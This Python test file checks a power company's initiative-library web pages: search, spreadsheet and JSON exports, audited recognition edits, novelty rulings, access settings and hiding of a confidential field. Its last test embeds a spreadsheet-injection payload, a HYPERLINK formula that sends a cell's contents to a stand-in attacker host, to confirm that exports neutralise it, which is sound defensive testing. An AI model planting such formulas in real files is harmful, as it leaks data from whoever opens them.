"""The library's pages: search, record, exports, recognition edits and novelty rulings."""

import csv
import io
import json
import re
from datetime import date, timedelta
from decimal import Decimal

from openpyxl import load_workbook
from sqlalchemy import select

from core import db
from core.models import AuditLog, EventStatus
from initiatives.models import (
    Attachment,
    AttachmentKind,
    Author,
    Initiative,
    LibraryReaders,
    LibrarySettings,
    RecognitionLevel,
    Similarity,
    SimilarityDecision,
    SimilarityKind,
)
from kiosk.models import Exhibit, ExhibitStatus
from scoring.models import Entry
from tests.factories import Factory

SECRET = "Sơ đồ đấu nối nội bộ trạm 110 kV Hải Châu"


def secretive(factory: Factory) -> Initiative:
    unit = factory.unit(name="Công ty Điện lực Đà Nẵng")
    return factory.initiative(
        title="Tiết kiệm điện tự dùng trạm biến áp",
        code="SK-2025-001",
        summary="Tắt chiếu sáng theo cảm biến",
        confidential=SECRET,
        unit_id=unit.id,
        benefit_vnd=150_000_000,
        authors=[
            Author(position=1, full_name="Nguyễn Văn Hùng", contribution_pct=Decimal(60)),
            Author(position=2, full_name="Trần Thị Thu Hà", contribution_pct=Decimal(40)),
        ],
    )


def test_any_organiser_searches_and_opens_a_record_never_the_secret(app, factory, organiser_client):
    made = secretive(factory)
    client = organiser_client(factory.event(), None)
    page = client.get("/library?q=tiet+kiem+dien").get_data(as_text=True)
    assert "Tiết kiệm điện tự dùng trạm biến áp" in page and "1 sáng kiến" in page
    record = client.get(f"/library/{made.id}").get_data(as_text=True)
    assert "Tắt chiếu sáng theo cảm biến" in record and "Trần Thị Thu Hà (40%)" in record
    assert "150.000.000" in record and "Chưa lượng hóa được bằng tiền" in record  # actual: none
    for path in (f"/library/{made.id}", "/library?q=hai+chau", "/library/export.json"):
        assert SECRET not in client.get(path).get_data(as_text=True)
    assert client.get("/library?q=so+do+dau+noi").get_data(as_text=True).count("SK-2025-001") == 0


def test_exports_of_the_current_search(app, factory, organiser_client):
    secretive(factory)
    factory.initiative(title="Robot sửa chữa dây chống sét")
    client = organiser_client(admin=True)
    answer = client.get("/library/export.xlsx?q=tiet+kiem")
    assert answer.headers["Content-Disposition"].endswith('thu-vien-sang-kien.xlsx"')
    sheet = load_workbook(io.BytesIO(answer.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2 and rows[0][1] == "Tên sáng kiến"
    assert rows[1][1] == "Tiết kiệm điện tự dùng trạm biến áp" and rows[1][8] == 150_000_000
    assert SECRET not in str(rows)
    table = list(
        csv.reader(io.StringIO(client.get("/library/export.csv").data.decode("utf-8-sig")))
    )
    assert len(table) == 3 and table[0][0] == "Mã sáng kiến"
    data = json.loads(client.get("/library/export.json?q=tiet+kiem").data)
    (only,) = data["initiatives"]
    assert only["authors"] == [
        {"name": "Nguyễn Văn Hùng", "share": 60.0},
        {"name": "Trần Thị Thu Hà", "share": 40.0},
    ]
    assert "confidential" not in only
    assert client.get("/library/export.pdf").status_code == 404


def test_recognition_is_edited_by_administrators_and_audited(app, factory, organiser_client):
    app.config["WTF_CSRF_ENABLED"] = False
    made = secretive(factory)
    client = organiser_client(admin=True)
    form = {
        "recognition_level": "corporation",
        "decision_number": "125/QĐ-EVNCPC",
        "decision_date": "30/06/2026",
        "benefit_vnd": "150.000.000",
        "benefit_actual_vnd": "182.500.000",
    }
    assert client.post(f"/library/{made.id}/recognition", data=form).status_code == 302
    with app.app_context(), db.unit_of_work() as session:
        initiative = session.get(Initiative, made.id)
        assert initiative.recognition_level == RecognitionLevel.CORPORATION
        assert initiative.benefit_actual_vnd == 182_500_000
        change = session.scalars(
            select(AuditLog).where(AuditLog.subject == f"initiative:{made.id}")
        ).one()
        assert change.before == {
            "recognition_level": None,
            "decision_number": "",
            "decision_date": None,
            "benefit_actual_vnd": None,
        }
        assert change.after["decision_date"] == "2026-06-30"
    record = client.get(f"/library/{made.id}").get_data(as_text=True)
    assert "Cấp Tổng công ty" in record and "125/QĐ-EVNCPC · 30/06/2026" in record
    assert "Giá trị làm lợi thực tế: – → 182.500.000" in record.replace("\xa0", " ")


def test_files_without_a_caption_are_named_by_their_kind_not_their_storage(factory, client):
    made = secretive(factory)
    with factory.writing() as session:
        for kind, path in (
            (AttachmentKind.PHOTO, "ab/1660926caafe.jpg"),
            (AttachmentKind.DOCUMENT, "cd/77.pdf"),
        ):
            session.add(Attachment(initiative_id=made.id, kind=kind, path=path))
    page = client.get(f"/library/{made.id}").get_data(as_text=True)
    assert ">Ảnh 1</a>" in page and ">Tài liệu 2</a>" in page
    assert "1660926caafe" not in page


def test_a_bad_recognition_form_writes_nothing(app, factory, organiser_client):
    app.config["WTF_CSRF_ENABLED"] = False
    made = secretive(factory)
    client = organiser_client(admin=True)
    answer = client.post(
        f"/library/{made.id}/recognition",
        data={"recognition_level": "", "decision_number": "12/QĐ", "benefit_actual_vnd": "nhiều"},
    )
    assert answer.status_code == 422 and "aria-invalid" in answer.get_data(as_text=True)
    answer = client.post(f"/library/{made.id}/recognition", data={"benefit_vnd": "nhiều"})
    assert answer.status_code == 422
    with app.app_context(), db.unit_of_work() as session:
        assert session.get(Initiative, made.id).benefit_vnd == 150_000_000
        assert session.scalars(select(AuditLog)).all() == []


def test_a_decision_dated_after_today_is_refused(app, factory, organiser_client):
    app.config["WTF_CSRF_ENABLED"] = False
    made = secretive(factory)
    form = {
        "recognition_level": "corporation",
        "decision_number": "125/QĐ-EVNCPC",
        "decision_date": (date.today() + timedelta(days=1)).strftime("%d/%m/%Y"),
    }
    answer = organiser_client(admin=True).post(f"/library/{made.id}/recognition", data=form)
    assert answer.status_code == 422
    assert "Ngày quyết định không thể sau hôm nay." in answer.get_data(as_text=True)
    with app.app_context(), db.unit_of_work() as session:
        assert session.get(Initiative, made.id).decision_date is None


def test_novelty_problems_are_ruled_on(app, factory, organiser_client):
    app.config["WTF_CSRF_ENABLED"] = False
    unit = factory.unit()
    earlier = factory.initiative(title="Cảnh báo quá nhiệt tủ hạ thế bằng IoT", unit_id=unit.id)
    later = factory.initiative(title="Cảnh báo quá nhiệt tủ hạ thế IoT", unit_id=unit.id)
    with factory.writing() as session:
        found = Similarity(
            initiative_id=later.id,
            other_id=earlier.id,
            score=Decimal("0.875"),
            kind=SimilarityKind.NOVELTY,
        )
        session.add(found)
    client = organiser_client(admin=True)
    page = client.get("/library/novelty").get_data(as_text=True)
    assert "1 trường hợp chờ kết luận" in page and "88%" in page
    record = client.get(f"/library/{later.id}").get_data(as_text=True)
    assert "Chờ kết luận" in record
    assert (
        client.get(f"/library/{earlier.id}")
        .get_data(as_text=True)
        .count("Một sáng kiến sau này của cùng đơn vị giống sáng kiến này")
        == 1
    )
    client.post(f"/library/similarities/{found.id}/decide", data={"decision": "duplicate"})
    assert "Không có trường hợp nào chờ kết luận" in client.get("/library/novelty").get_data(
        as_text=True
    )
    with app.app_context(), db.unit_of_work() as session:
        ruled = session.get(Similarity, found.id)
        assert ruled.decision == SimilarityDecision.DUPLICATE and ruled.decided_by
    answer = client.post(f"/library/similarities/{found.id}/decide", data={"decision": "maybe"})
    assert answer.status_code == 422


def test_the_record_shows_its_events_and_published_awards(app, factory, contest, organiser_client):
    with factory.writing() as session:
        initiative_id = session.get(Entry, contest.entries[0]).initiative_id
    exhibit_event = factory.event(name="Ngày hội trưng bày 2026")
    with factory.writing() as session:
        session.add(Exhibit(event_id=exhibit_event.id, initiative_id=initiative_id, booth="B07"))
    client = organiser_client(admin=True)
    record = client.get(f"/library/{initiative_id}").get_data(as_text=True)
    assert "Thi thuyết trình, Vòng chung khảo" in record and "Gian trưng bày B07" in record
    assert "Giải" not in record  # no published results: no award shown
    with factory.writing() as session:
        session.get(type(contest.event), contest.event.id).status = EventStatus.PUBLISHED
    assert client.get(f"/library/{initiative_id}").status_code == 200


def _close_library(factory):
    with factory.writing() as session:
        session.add(LibrarySettings(id=1, readers=LibraryReaders.ORGANISERS))


def test_staff_without_an_account_read_the_library_by_default(client, factory):
    made = secretive(factory)
    page = client.get("/library?q=tiet+kiem+dien").get_data(as_text=True)
    assert "Tiết kiệm điện tự dùng trạm biến áp" in page and "1 sáng kiến" in page
    record = client.get(f"/library/{made.id}")
    assert record.status_code == 200
    text = record.get_data(as_text=True)
    assert "Trần Thị Thu Hà (40%)" in text and SECRET not in text
    assert "Ban Tổ chức" not in text  # the light public frame, not the organisers' bar
    exported = json.loads(client.get("/library/export.json").get_data(as_text=True))
    assert [row["title"] for row in exported["initiatives"]] == [made.title]


def test_when_closed_strangers_are_sent_to_log_in(client, factory, organiser_client):
    made = secretive(factory)
    _close_library(factory)
    for path in (f"/library/{made.id}", "/library", "/library/export.xlsx"):
        assert client.get(path).headers["Location"].startswith("/login?next="), path
    assert organiser_client(factory.event(), None).get(f"/library/{made.id}").status_code == 200


def test_readers_without_an_account_see_no_draft_history_or_novelty(
    app, client, factory, organiser_client
):
    """A kiosk registration not yet approved is a draft; the history names organisers; the
    novelty check is the organisers' business. A replication is public."""
    app.config["WTF_CSRF_ENABLED"] = False
    event = factory.event()
    draft = factory.exhibit(event, title="Xe phun nước xử lý sự cố hạ thế trong hẻm nhỏ")
    with factory.writing() as session:
        session.get(Exhibit, draft.id).status = ExhibitStatus.PENDING
    made = secretive(factory)
    twin = factory.initiative(title="Tiết kiệm điện tự dùng trạm biến áp 110 kV")
    copy = factory.initiative(title="Tiết kiệm điện tự dùng trạm biến áp tại Quảng Nam")
    with factory.writing() as session:
        session.add_all(
            [
                Similarity(
                    initiative_id=twin.id,
                    other_id=made.id,
                    score=Decimal("0.9"),
                    kind=SimilarityKind.NOVELTY,
                ),
                Similarity(
                    initiative_id=copy.id,
                    other_id=made.id,
                    score=Decimal("0.8"),
                    kind=SimilarityKind.REPLICATION,
                ),
            ]
        )
    admin = organiser_client(admin=True)
    recognised = {
        "recognition_level": "base",
        "decision_number": "12/QĐ-PCĐN",
        "benefit_vnd": "150.000.000",
    }
    assert admin.post(f"/library/{made.id}/recognition", data=recognised).status_code == 302
    staff_page = admin.get(f"/library/{made.id}").get_data(as_text=True)
    assert "Lịch sử thay đổi" in staff_page and twin.title in staff_page

    public = client.get(f"/library/{made.id}").get_data(as_text=True)
    assert "12/QĐ-PCĐN" in public and copy.title in public
    assert "Lịch sử thay đổi" not in public and twin.title not in public
    assert "Sửa công nhận" not in public
    assert client.get("/library?q=xe+phun+nuoc").get_data(as_text=True).count("hẻm nhỏ") == 0
    assert client.get(f"/library/{draft.initiative_id}").status_code == 404
    assert "hẻm nhỏ" in admin.get("/library?q=xe+phun+nuoc").get_data(as_text=True)
    rows = load_workbook(io.BytesIO(client.get("/library/export.xlsx").data)).active
    assert draft_absent(rows, "Xe phun nước xử lý sự cố hạ thế trong hẻm nhỏ")


def draft_absent(sheet, title):
    return all(title not in [cell.value for cell in row] for row in sheet.iter_rows())


def test_anonymous_exports_are_rate_limited_organisers_are_not(
    app, client, factory, organiser_client
):
    app.config["LIBRARY_EXPORT_LIMIT_PER_ADDRESS"] = "2 per minute"
    secretive(factory)
    answers = [client.get("/library/export.csv").status_code for _ in range(3)]
    assert answers == [200, 200, 429]
    staff = organiser_client(factory.event(), None)
    assert {staff.get("/library/export.csv").status_code for _ in range(3)} == {200}


def test_the_administrator_chooses_who_reads(app, client, factory, organiser_client):
    app.config["WTF_CSRF_ENABLED"] = False
    admin = organiser_client(admin=True)
    page = admin.get("/library/access").get_data(as_text=True)
    assert "Mọi người truy cập máy chủ này" in page and "Chỉ Ban Tổ chức" in page
    assert admin.post("/library/access", data={"readers": "nobody"}).status_code == 422
    admin.post("/library/access", data={"readers": "organisers"})
    assert client.get("/library").status_code == 302
    with factory.writing() as session:
        logged = session.scalar(select(AuditLog).where(AuditLog.action == "library.readers"))
        assert logged.after == {"readers": "organisers"}
    admin.post("/library/access", data={"readers": "everyone"})
    assert client.get("/library").status_code == 200


def test_a_record_is_light_on_a_phone_without_an_account(client, factory):
    """A share card's QR code opens the record on a phone: the page and its stylesheet are
    under the 30 KB a phone page may weigh, with no script to load."""
    made = secretive(factory)
    response = client.get(f"/library/{made.id}")
    page = response.get_data(as_text=True)
    css = client.get(re.findall(r'href="(/static/css/app.css[^"]*)"', page)[0])
    assert '<script type="module"' not in page
    assert len(response.data) + len(css.data) < 30_000


def test_an_anonymous_title_is_never_a_formula_in_the_library_exports(app, factory, client):
    """A worker's title reaches the public library's exports (review finding 6)."""
    title = '=HYPERLINK("http://attacker.example/?x="&B2,"Xem chi tiết")'
    factory.initiative(title=title, code="SK-2025-009")
    sheet = load_workbook(io.BytesIO(client.get("/library/export.xlsx").data)).active
    (cell,) = [cell for row in sheet.iter_rows() for cell in row if cell.value == title]
    assert cell.data_type == "s"
    table = list(
        csv.reader(io.StringIO(client.get("/library/export.csv").data.decode("utf-8-sig")))
    )
    assert table[1][1] == "'" + title
